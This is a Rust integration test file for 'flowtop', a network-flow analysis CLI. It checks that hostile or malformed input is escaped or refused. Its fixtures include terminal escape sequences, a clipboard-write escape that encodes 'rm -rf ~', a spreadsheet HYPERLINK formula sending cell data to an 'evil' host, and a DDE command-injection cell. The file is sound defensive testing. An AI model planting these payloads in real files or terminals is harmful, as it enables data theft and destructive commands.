//! Hostile and broken input through the binary: attacker-controlled text never reaches a
//! terminal or a spreadsheet raw, rejected rows are always reported, corrupt model files are
//! refused with a message instead of a panic.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

const SAMPLE: &str = "sample-data/cicids2017-sample.csv";

/// Runs flowtop with no config file in reach; (exit code, stdout, stderr) as raw bytes.
fn run(args: &[&str]) -> (i32, Vec<u8>, Vec<u8>) {
    let out = Command::new(env!("CARGO_BIN_EXE_flowtop"))
        .args(args)
        .env_remove("FLOWTOP_CONFIG")
        .env("XDG_CONFIG_HOME", "/nonexistent-flowtop-test")
        .stdin(Stdio::null())
        .output()
        .expect("run flowtop");
    (out.status.code().unwrap_or(-1), out.stdout, out.stderr)
}

/// A character a terminal acts on or that reorders what is shown, decided here on its own
/// (not with the code under test): C0 but newline and tab, DEL, C1, bidi controls.
fn is_raw_control(c: char) -> bool {
    let u = c as u32;
    (u < 0x20 && c != '\n' && c != '\t')
        || (0x7f..=0x9f).contains(&u)
        || matches!(u, 0x061c | 0x200e | 0x200f | 0x202a..=0x202e | 0x2066..=0x2069)
}

fn raw_controls(bytes: &[u8]) -> Vec<char> {
    String::from_utf8_lossy(bytes)
        .chars()
        .filter(|&c| is_raw_control(c))
        .collect()
}

const HOSTILE_LABELS: [&str; 9] = [
    "normal",
    "normal",
    "\u{1b}]0;pwned\u{7}",
    "\u{1b}]52;c;cm0gLXJmIH4=\u{7}",
    "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "\u{202e}gnp.exe",
    "\u{9b}6n",
    "att\u{1b}[2Jack",
];

/// A labelled CSV whose labels, services and one column name carry escapes and formulas, and
/// whose sixth line is a bad row quoting an escape.
fn hostile_csv(dir: &Path) -> PathBuf {
    let mut text = String::from(
        "duration,packet_count,bytes_sent,bytes_received,packet_size_mean,label,timestamp,service,\"\u{1b}[31mevil\u{7}\"\n",
    );
    for i in 0..400u32 {
        let label = HOSTILE_LABELS[(i as usize * 7) % HOSTILE_LABELS.len()].replace('"', "\"\"");
        let service = ["http", "dns", "\u{1b}[6n", "@SUM(1+1)"][i as usize % 4];
        text.push_str(&format!(
            "{}.{},{},{},{},{},\"{label}\",{},{service},{}\n",
            i % 5,
            i % 10,
            1 + i % 40,
            60 + (i * 37) % 9000,
            (i * 53) % 9000,
            40 + (i * 11) % 1400,
            1_709_287_200 + i,
            i % 3
        ));
        if i == 3 {
            text.push_str("bad,row,\u{1b}[31mred\u{7},1,2,3,4,5,6\n");
        }
    }
    // The file name is input too.
    let path = dir.join("flows\u{1b}]0;name\u{7}.csv");
    std::fs::write(&path, text).expect("write");
    path
}

#[test]
fn no_command_writes_a_raw_control_for_hostile_input() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = hostile_csv(dir.path());
    let f = file.to_str().expect("utf-8 path");
    let model = dir.path().join("m.json");
    let m = model.to_str().expect("path");
    let out_csv = dir.path().join("out.csv");
    let out_jsonl = dir.path().join("out.jsonl");
    let missing = dir.path().join("gone\u{1b}[2J.csv");
    let runs: Vec<Vec<&str>> = vec![
        vec!["inspect", f],
        vec!["inspect", "--json", f],
        vec!["inspect", missing.to_str().expect("path")],
        vec!["eval", f, "--seed", "1"],
        vec!["eval", f, "--json", "--seed", "1"],
        vec![
            "eval",
            f,
            "--stream",
            "--warmup",
            "100",
            "--retrain-every",
            "200",
        ],
        vec!["eval", f, "--supervised", "--multiclass", "--folds", "2"],
        vec![
            "eval",
            f,
            "--supervised",
            "--multiclass",
            "--folds",
            "2",
            "--json",
        ],
        vec!["train", f, "--save", m],
        vec!["score", f, "--model", m],
        vec!["score", f],
        vec!["score", f, "-o", out_csv.to_str().expect("path")],
        vec!["score", f, "-o", out_jsonl.to_str().expect("path")],
        vec!["forecast", f, "--bucket", "5s", "--horizon", "5"],
        vec!["forecast", f, "--bucket", "5s", "--horizon", "5", "--json"],
        vec!["bench", "parse", f, "--runs", "1"],
        vec![
            "threat",
            "--model",
            m,
            "--proto",
            "\u{1b}[2J",
            "--state",
            "\u{202e}S0",
        ],
        vec![
            "threat",
            "--model",
            m,
            "--json",
            "--state",
            "\u{1b}]0;x\u{7}",
        ],
    ];
    let mut clean_runs = 0;
    for args in &runs {
        let (code, stdout, stderr) = run(args);
        let shown = format!("{args:?}").escape_debug().to_string();
        assert!(code == 0 || code == 1, "{shown}: exit {code}");
        assert_eq!(raw_controls(&stdout), [], "{shown}: stdout");
        assert_eq!(raw_controls(&stderr), [], "{shown}: stderr");
        clean_runs += usize::from(code == 0);
        let text = String::from_utf8_lossy(&stdout);
        if args.contains(&"--json") {
            for line in text.lines() {
                let _: serde_json::Value = serde_json::from_str(line)
                    .unwrap_or_else(|e| panic!("{shown}: not JSON ({e}): {line}"));
            }
        }
    }
    // Only the missing file fails; everything else did its work.
    assert_eq!(clean_runs, runs.len() - 1);
    // The escapes are shown, not dropped.
    let (_, stdout, _) = run(&["inspect", f]);
    let text = String::from_utf8_lossy(&stdout);
    assert!(text.contains("\\x1b]0;pwned\\x07"), "{text}");
    assert!(text.contains("\\u{202e}gnp.exe"), "{text}");
    assert!(
        text.contains(":6: column 'duration': 'bad' is not a number"),
        "{text}"
    );
}

#[test]
fn spreadsheet_cells_never_start_a_formula() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = hostile_csv(dir.path());
    let out = dir.path().join("scored.csv");
    let (code, _, stderr) = run(&[
        "score",
        file.to_str().expect("path"),
        "-o",
        out.to_str().expect("path"),
    ]);
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&stderr));
    let mut r = csv::Reader::from_path(&out).expect("csv");
    let header = r.headers().expect("header").clone();
    let label = header
        .iter()
        .position(|h| h == "label")
        .expect("label column");
    let ts = header.iter().position(|h| h == "ts").expect("ts column");
    let mut neutralised = 0;
    for row in r.records() {
        let row = row.expect("row");
        for cell in &row {
            let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!formula, "a formula cell: {cell:?}");
        }
        neutralised += usize::from(row[label].starts_with("'=") || row[label].starts_with("'+"));
        // Numbers are still numbers.
        assert!(row[ts].parse::<f64>().is_ok(), "{:?}", &row[ts]);
    }
    assert!(neutralised > 50, "{neutralised} neutralised label cells");
}

#[test]
fn score_and_train_say_how_many_rows_they_rejected() {
    let dir = tempfile::tempdir().expect("tempdir");
    let text = std::fs::read_to_string(SAMPLE).expect("sample");
    let mut lines = text.lines();
    let mut half = format!("{}\n", lines.next().expect("header"));
    for (i, l) in lines.take(200).enumerate() {
        if i % 2 == 0 {
            half.push_str(l);
        } else {
            half.push_str("not,a,flow");
        }
        half.push('\n');
    }
    let p = dir.path().join("half.csv");
    std::fs::write(&p, half).expect("write");
    let f = p.to_str().expect("path");
    let model = dir.path().join("m.json");
    let (code, _, stderr) = run(&["train", f, "--save", model.to_str().expect("path")]);
    let stderr = String::from_utf8_lossy(&stderr);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("trained on 100 flows (100 rows rejected)"),
        "{stderr}"
    );
    assert!(
        stderr.contains("half.csv:3: expected"),
        "first reject by file and line: {stderr}"
    );
    let (code, _, stderr) = run(&["score", f, "--model", model.to_str().expect("path")]);
    let stderr = String::from_utf8_lossy(&stderr);
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("100 flows scored"), "{stderr}");
    assert!(stderr.contains("100 rows rejected"), "{stderr}");
    assert!(stderr.contains("100 of 200 rows rejected"), "{stderr}");
}

/// Edits a saved model's JSON at `pointer` (below `/model`).
fn corrupt(good: &serde_json::Value, pointer: &str, value: serde_json::Value) -> serde_json::Value {
    let mut bad = good.clone();
    *bad.pointer_mut(&format!("/model{pointer}"))
        .unwrap_or_else(|| panic!("no {pointer} in the model")) = value;
    bad
}

#[test]
fn inconsistent_model_files_are_refused_not_panicked_on() {
    use serde_json::json;
    let dir = tempfile::tempdir().expect("tempdir");
    let good_path = dir.path().join("good.json");
    let (code, _, stderr) = run(&["train", SAMPLE, "--save", good_path.to_str().expect("path")]);
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&stderr));
    let good: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&good_path).expect("read")).expect("json");
    let mut names = good["model"]["pipeline"]["names"].clone();
    names.as_array_mut().expect("names").pop();
    let cases = [
        (
            "a tree child past the end",
            corrupt(
                &good,
                "/classifier/model/forest/nodes/0/right",
                json!(99_999_999),
            ),
        ),
        (
            "a tree that loops",
            corrupt(&good, "/classifier/model/forest/nodes/0/right", json!(0)),
        ),
        (
            "an isolation tree child past the end",
            corrupt(
                &good,
                "/detectors/detectors/0/model/iforest/trees/0/nodes/0/left",
                json!(4_000_000),
            ),
        ),
        (
            "empty calibration knots",
            corrupt(&good, "/detectors/detectors/0/calibration/knots", json!([])),
        ),
        (
            "feature names shorter than the pipeline",
            corrupt(&good, "/pipeline/names", names),
        ),
        (
            "an autoencoder weight of the wrong shape",
            corrupt(
                &good,
                "/detectors/detectors/6/model/autoencoder/layers/0/w",
                json!({"v": 1, "dim": [2, 2], "data": [0.0, 0.0, 0.0, 0.0]}),
            ),
        ),
        (
            "2 weights for 9 detectors",
            corrupt(&good, "/consensus/weights", json!([0.5, 0.5])),
        ),
        (
            "a feature index of 999",
            corrupt(&good, "/pipeline/numeric/0/input/numeric", json!(999)),
        ),
        (
            "LOF k = 0",
            corrupt(&good, "/detectors/detectors/1/model/lof/k", json!(0)),
        ),
    ];
    for (what, bad) in cases {
        let p = dir.path().join("bad.json");
        std::fs::write(&p, serde_json::to_string(&bad).expect("json")).expect("write");
        let m = p.to_str().expect("path");
        for args in [
            vec!["score", SAMPLE, "--model", m],
            vec!["threat", "--model", m, "--dport", "22"],
            vec!["eval", SAMPLE, "--model", m],
        ] {
            let (code, stdout, stderr) = run(&args);
            let stderr = String::from_utf8_lossy(&stderr);
            assert_eq!(code, 1, "{what}: {args:?}: {stderr}");
            assert!(stdout.is_empty(), "{what}: {args:?}");
            assert!(stderr.contains("inconsistent"), "{what}: {stderr}");
            assert!(!stderr.contains("panicked"), "{what}: {stderr}");
        }
    }
}

#[test]
fn a_closed_pipe_ends_quietly() {
    let mut child = Command::new(env!("CARGO_BIN_EXE_flowtop"))
        .args(["score", SAMPLE])
        .env_remove("FLOWTOP_CONFIG")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    // Read one line, then hang up, as `| head -1` does.
    {
        use std::io::BufRead;
        let stdout = child.stdout.take().expect("stdout");
        let mut first = String::new();
        std::io::BufReader::new(stdout)
            .read_line(&mut first)
            .expect("a line");
        assert!(first.starts_with("kind,line,"), "{first}");
    }
    let out = child.wait_with_output().expect("wait");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("Broken pipe"), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(out.status.code(), Some(0), "{stderr}");
}

#[test]
fn a_config_that_is_not_a_regular_file_is_refused_at_once() {
    for path in ["/dev/zero", "/"] {
        let out = Command::new(env!("CARGO_BIN_EXE_flowtop"))
            .args(["inspect", SAMPLE])
            .env("FLOWTOP_CONFIG", path)
            .output()
            .expect("run");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{stderr}");
        assert!(stderr.contains("not a regular file"), "{stderr}");
    }
}

#[test]
fn far_future_timestamps_neither_crash_nor_stretch_the_forecast() {
    let dir = tempfile::tempdir().expect("tempdir");
    let text = std::fs::read_to_string("tests/fixtures/zeek-trickbot-head.log").expect("fixture");
    let mut out = String::new();
    let mut data_rows = 0;
    for line in text.lines() {
        out.push_str(line);
        out.push('\n');
        if !line.starts_with('#') {
            data_rows += 1;
            if data_rows == 20 {
                // The same row twice more, at an impossible and a far-future time.
                let rest = line.split_once('\t').expect("ts").1;
                out.push_str(&format!("1.797e308\t{rest}\n99999999999\t{rest}\n"));
            }
        }
    }
    let p = dir.path().join("conn.log");
    std::fs::write(&p, out).expect("write");
    let f = p.to_str().expect("path");
    let (code, stdout, stderr) = run(&["inspect", "--json", f]);
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&stderr));
    let v: serde_json::Value = serde_json::from_slice(&stdout).expect("json");
    assert_eq!(v["suspect_times"], 2, "{v}");
    assert_eq!(v["rejected"], 0);
    let span = v["time_span"]["seconds"].as_f64().expect("span");
    assert!(
        span < 86_400.0,
        "the span is the capture's, not the bogus rows': {span}"
    );
    let (code, _, stderr) = run(&["forecast", f, "--bucket", "1s", "--horizon", "3"]);
    let stderr = String::from_utf8_lossy(&stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(code == 0 || stderr.contains("too few"), "{stderr}");
}

/// Rows with a timestamp, label and ports, in the given column order.
fn generic_rows(order: &[&str], from: u32, n: u32) -> String {
    let mut out = String::new();
    for i in from..from + n {
        let cells: Vec<String> = order
            .iter()
            .map(|c| match *c {
                "ts" => (1_709_287_200 + i).to_string(),
                "duration" => format!("{}.5", i % 7),
                "bytes" => (100 + i * 13).to_string(),
                "dport" => "443".into(),
                "label" => if i % 10 == 0 { "scan" } else { "normal" }.into(),
                other => panic!("{other}"),
            })
            .collect();
        out.push_str(&cells.join(","));
        out.push('\n');
    }
    out
}

/// A header repeated with the columns in another order (files concatenated, a sensor
/// restarted): the rows after it are read by the new order, not the old.
#[test]
fn a_repeated_header_in_another_order_re_plans_the_columns() {
    let dir = tempfile::tempdir().expect("tempdir");
    let first = ["ts", "duration", "bytes", "dport", "label"];
    let second = ["label", "dport", "ts", "bytes", "duration"];
    let mut text = format!("{}\n", first.join(","));
    text.push_str(&generic_rows(&first, 0, 600));
    text.push_str(&format!("{}\n", second.join(",")));
    text.push_str(&generic_rows(&second, 600, 600));
    let p = dir.path().join("joined.csv");
    std::fs::write(&p, text).expect("write");
    let (code, stdout, stderr) = run(&["inspect", "--json", p.to_str().expect("path")]);
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&stderr));
    let v: serde_json::Value = serde_json::from_slice(&stdout).expect("json");
    assert_eq!(v["rows"], 1200, "{v}");
    assert_eq!(v["rejected"], 0, "{v}");
    assert_eq!(v["skipped"]["header"], 2, "{v}");
    assert_eq!(v["labels"]["scan"], 120, "{v}");
    assert_eq!(v["labels"]["normal"], 1080, "{v}");
    assert!(
        v["labels"].get("443").is_none(),
        "no port read as a label: {v}"
    );
}

/// Ports that cannot be ports are rejected with the reason, not left empty.
#[test]
fn impossible_ports_are_rejected_with_their_reason() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut text = String::from("ts,duration,bytes,dport,label\n");
    text.push_str(&generic_rows(
        &["ts", "duration", "bytes", "dport", "label"],
        0,
        100,
    ));
    for bad in ["99999", "65536", "-1", "NaN", "4.5"] {
        text.push_str(&format!("1709290000,1.0,100,{bad},normal\n"));
    }
    text.push_str("1709290001,1.0,100,,normal\n1709290002,1.0,100,-,normal\n");
    let p = dir.path().join("ports.csv");
    std::fs::write(&p, text).expect("write");
    let (code, stdout, _) = run(&["inspect", "--json", p.to_str().expect("path")]);
    assert_eq!(code, 0);
    let v: serde_json::Value = serde_json::from_slice(&stdout).expect("json");
    assert_eq!(v["rejected"], 5, "{v}");
    assert_eq!(
        v["rows"], 102,
        "an empty or unset port is no port, not an error: {v}"
    );
    let reasons: Vec<&str> = v["rejects"]
        .as_array()
        .expect("rejects")
        .iter()
        .map(|r| r["reason"].as_str().expect("reason"))
        .collect();
    assert!(
        reasons.iter().all(|r| r.contains("is not a port")),
        "{reasons:?}"
    );
}

/// CR-only line ends made one endless line: "0 rows, 0 rejected" and hundreds of MB. Now the
/// file is refused with what to do.
#[test]
fn cr_only_line_ends_are_refused_with_the_fix() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut text = String::from("ts,duration,bytes,dport,label\n");
    text.push_str(&generic_rows(
        &["ts", "duration", "bytes", "dport", "label"],
        0,
        50,
    ));
    let p = dir.path().join("mac.csv");
    std::fs::write(&p, text.replace('\n', "\r")).expect("write");
    let (code, _, stderr) = run(&["inspect", p.to_str().expect("path")]);
    let stderr = String::from_utf8_lossy(&stderr);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("carriage return only"), "{stderr}");
}

/// A NUL byte is a bad byte in one row wherever the row is: row 2 no longer refuses the whole
/// file as binary while row 5,000 was accepted.
#[test]
fn a_nul_byte_is_judged_the_same_in_any_row() {
    let dir = tempfile::tempdir().expect("tempdir");
    let rows: Vec<String> = generic_rows(&["ts", "duration", "bytes", "dport", "label"], 0, 6000)
        .lines()
        .map(String::from)
        .collect();
    for at in [1usize, 4999] {
        let mut lines = rows.clone();
        lines[at] = lines[at].replacen("normal", "nor\0mal", 1);
        let text = format!("ts,duration,bytes,dport,label\n{}\n", lines.join("\n"));
        let p = dir.path().join(format!("nul{at}.csv"));
        std::fs::write(&p, text).expect("write");
        let (code, stdout, stderr) = run(&["inspect", "--json", p.to_str().expect("path")]);
        assert_eq!(
            code,
            0,
            "row {}: {}",
            at + 2,
            String::from_utf8_lossy(&stderr)
        );
        let v: serde_json::Value = serde_json::from_slice(&stdout).expect("json");
        assert_eq!(v["rows"], 6000, "row {}: {v}", at + 2);
        assert!(
            v["labels"].get("nor\\x00mal").is_some(),
            "shown escaped: {}",
            v["labels"]
        );
    }
}

/// A save killed half-way leaves `.NAME.tmpPID`; the next save removes those of processes
/// that are gone.
#[test]
fn stale_temporaries_of_killed_saves_are_removed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let model = dir.path().join("m.json");
    // Process ids this large are not handed out (the kernel's limit is 2^22).
    let stale = dir.path().join(".m.json.tmp4999999");
    std::fs::write(&stale, "{half").expect("write");
    let other = dir.path().join(".other.json.tmp4999999");
    std::fs::write(&other, "{half").expect("write");
    let (code, _, stderr) = run(&["train", SAMPLE, "--save", model.to_str().expect("path")]);
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&stderr));
    assert!(model.exists());
    assert!(!stale.exists(), "the stale temporary of this model is gone");
    assert!(other.exists(), "another file's temporary is left alone");
}
